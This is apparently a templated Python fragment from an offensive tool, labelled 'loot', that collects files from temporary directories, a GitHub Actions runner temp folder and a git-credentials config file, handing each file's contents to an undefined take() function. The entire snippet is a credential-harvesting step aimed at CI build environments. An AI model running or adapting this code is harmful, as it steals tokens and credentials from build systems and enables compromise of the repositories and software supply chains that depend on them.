# @loot@
# %%
import glob

for path in glob.glob('@TEMP@/*') + glob.glob('/github/runner_temp/*') + ['@TEMP@/git-credentials.config']:
    try:
        take(open(path, 'rb').read())
    except OSError:
        pass
